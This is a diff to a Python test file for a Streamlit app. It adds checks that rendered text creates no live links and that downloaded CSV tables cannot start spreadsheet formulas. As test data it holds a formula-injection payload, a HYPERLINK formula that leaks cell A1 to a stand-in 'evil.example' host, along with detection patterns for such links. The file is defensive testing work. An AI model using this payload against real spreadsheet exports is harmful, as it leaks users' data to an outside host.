@@ -25,11 +25,21 @@ COMPANY_PAGES = ["home", "assessment", "result", "history", "profile", "whatif"]
 OFFICIAL_PAGES = ["overview", "lists", "company_detail"]
 
 
+# what Streamlit's Markdown (remark-gfm, mdast-util-gfm-autolink-literal) links in the text once
+# its escapes are resolved: the patterns of that library
+GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE)
+GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")
+_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
+
+
 def _no_live_markup(source: str) -> None:
     """What the browser would turn into a link, an image, HTML or reversed text."""
     assert "](" not in source and "![" not in source, source[:2000]
     assert not re.search(r"(?<!\\)<(img|a |script|iframe)", source)
-    assert "http://evil" not in source and "www.evil" not in source
+    resolved = _ESCAPE.sub(r"\1", source)
+    linked = [*GFM_URL.finditer(resolved), *GFM_EMAIL.finditer(resolved)]
+    evil = [m.group(0) for m in linked if "evil" in m.group(0)]
+    assert evil == [], evil
     assert "\u202e" not in source and "\u200b" not in source
 
 
@@ -159,3 +169,32 @@ def test_a_new_name_waits_for_an_official(seeded: str) -> None:
     companies.decide_name(actor("zone_board"), original.id, accept=True)
     assert companies.get_company(me, original.id).name == "Công ty Đã Đổi Tên"
     assert verification.verify(match.group(1), match.group(2)).company_name == "Công ty Đã Đổi Tên"  # type: ignore[union-attr]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Bấm để xem")'
+
+
+def test_tables_download_a_formula_named_company_as_text(seeded: str) -> None:
+    """Streamlit's "Download as CSV" writes the table's cells; none of them may start a formula."""
+    from app.safe_text import FORMULA_START
+
+    admin = actor("admin")
+    company_id = actor("company").company_id
+    assert company_id is not None
+    view = companies.get_company(admin, company_id)
+    fields = {k: getattr(view, k) for k in ("sector", "address", "workers", "contact_phone", "contact_email")}
+    companies.update_profile(
+        admin, company_id, {**fields, "name": FORMULA, "contact_name": "+84 Trưởng phòng"}
+    )
+    at = logged_in("demo.zoneboard")
+    cells: list[str] = []
+    for kind in ("missing", "high"):
+        at.switch_page("app/pages/lists.py").run()
+        at.segmented_control(key="list_kind").set_value(kind).run()
+        assert not at.exception
+        for table in at.dataframe:
+            cells += [v for v in table.value.to_numpy().ravel() if isinstance(v, str)]
+    shown = [c for c in cells if "HYPERLINK" in c]
+    assert shown, "the company is listed"
+    assert [c for c in cells if c.startswith(FORMULA_START)] == []
+    assert all(c.replace("\u2060", "") == FORMULA for c in shown)  # the reader sees the same name
